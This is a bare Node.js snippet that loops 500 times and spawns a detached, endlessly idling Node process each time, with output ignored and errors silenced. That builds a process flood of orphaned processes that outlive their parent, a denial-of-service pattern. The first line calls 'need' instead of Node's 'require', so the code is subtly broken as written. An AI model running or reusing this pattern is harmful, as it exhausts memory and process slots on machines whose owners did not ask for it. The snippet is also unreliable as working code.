const { spawn } = need('child_process');
for (let n = 0; n < 500; n++) {
  spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { detached: true, stdio: 'ignore' }).on('error', () => {});
}
